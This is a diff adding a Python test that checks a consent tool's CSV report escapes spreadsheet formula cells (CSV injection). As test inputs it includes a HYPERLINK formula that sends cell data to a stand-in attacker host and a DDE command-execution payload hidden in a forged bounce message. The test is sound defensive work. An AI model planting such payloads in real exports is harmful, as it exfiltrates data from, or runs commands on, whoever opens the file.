@@ -336,3 +336,33 @@ def test_bounces_import_skips_an_unusable_address_and_reads_on(planned: Workspac
     assert skipped["where"] == "bounces.mbox message 1"
     assert "x@localhost" in skipped["reason"]
     assert [o["address"] for o in summary["opted_out"]] == ["jean.martin@example.org"]
+
+
+#: What a spreadsheet runs as a formula when a cell starts with it (OWASP CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_csv_report_neutralises_cells_a_spreadsheet_would_run(planned: Workspace) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    planned.ok("consent", "opt-out", "=1+2@example.fr", "--method", hyperlink)
+    planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
+    # Anyone can mail a fake bounce: its diagnostic is theirs to write.
+    forged = (SAMPLES / "postfix-user-unknown.eml").read_bytes()
+    forged = forged.replace(
+        b"Diagnostic-Code: smtp; 550 5.1.1 <jmartin@mailstore.example.org>: Recipient",
+        b"Diagnostic-Code: smtp; @SUM(1+9)*cmd|' /C calc'!A0 <jmartin@example.org>: Recipient",
+    )
+    planned.ok("bounces", "import", str(planned.write("forged.eml", forged)))
+
+    text = planned.ok("consent", "report", "--csv").stdout
+    rows = list(csv.reader(io.StringIO(text)))
+
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    by_address = {row[0]: row for row in rows[1:]}
+    assert "'=1+2@example.fr" in by_address
+    assert by_address["'=1+2@example.fr"][2] == "'" + hyperlink
+    [detail] = [row[5] for row in rows if row[0] == "jean.martin@example.org"]
+    assert detail.startswith("'@SUM(1+9)")
+    # JSON keeps every value as it is: only a spreadsheet runs formulas.
+    assert "=1+2@example.fr" in [r["address"] for r in _report(planned)]
